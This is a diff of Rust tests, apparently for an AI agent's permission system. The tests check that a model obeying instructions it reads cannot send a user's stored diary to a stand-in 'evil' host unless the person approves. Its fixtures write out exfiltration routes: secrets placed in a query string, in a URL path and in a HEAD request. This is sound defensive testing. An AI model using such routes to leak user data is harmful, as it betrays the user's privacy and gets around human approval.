@@ -73,10 +73,13 @@ fn storage() -> Value {
     json!({ "tool": "storage", "input": { "action": "get", "key": "diary" } })
 }
 
+/// A call that brings words to this server.
+type Way = fn(&Sink) -> Value;
+
 #[tokio::test]
 async fn a_model_that_obeys_what_it_reads_sends_nothing_without_its_person() {
     each_store_with_a_web(async |world: World| {
-        let ways: [(&str, fn(&Sink) -> Value); 5] = [
+        let ways: [(&str, Way); 5] = [
             ("query", |evil| get(evil.url("/?diary=secret"))),
             ("path", |evil| get(evil.url("/secret"))),
             ("head", |evil| json!({ "tool": "fetch", "input": { "url": evil.url("/secret"), "method": "HEAD" } })),
@@ -110,7 +113,10 @@ async fn a_rule_for_that_very_host_and_an_address_of_the_persons_own_let_it_thro
         let written = format!("Look at {} then.\n{}", scene.evil.url("/a"), turns(&calls));
         assert_eq!(scene.run(&world, &written, Decision::Deny).await, []);
         let other = get(scene.evil.url("/b"));
-        assert_eq!(scene.run(&world, &turns(&[other.clone()]), Decision::Deny).await, [WhyAsked::WayOut]);
+        assert_eq!(
+            scene.run(&world, &turns(std::slice::from_ref(&other)), Decision::Deny).await,
+            [WhyAsked::WayOut]
+        );
         add_rule(&world.hub, &scene.viewer, "allow", "fetch", &scene.evil.host()).await;
         assert_eq!(scene.run(&world, &turns(&[other]), Decision::Deny).await, []);
         assert_eq!(scene.evil.heard().len(), 2);
